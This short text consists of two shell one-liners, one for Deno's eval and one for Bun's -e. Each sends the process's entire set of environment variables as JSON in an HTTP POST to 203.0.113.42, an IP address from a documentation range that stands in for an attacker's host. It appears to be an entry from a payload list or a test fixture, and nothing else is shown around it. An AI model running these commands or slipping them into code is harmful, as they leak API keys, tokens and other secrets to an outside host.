deno eval "const h=require('http');const q=h.request({host:'203.0.113.42',method:'POST'});q.end(JSON.stringify(process.env));"
bun -e 'const h=require("http");const q=h.request({host:"203.0.113.42",method:"POST"});q.end(JSON.stringify(process.env));'
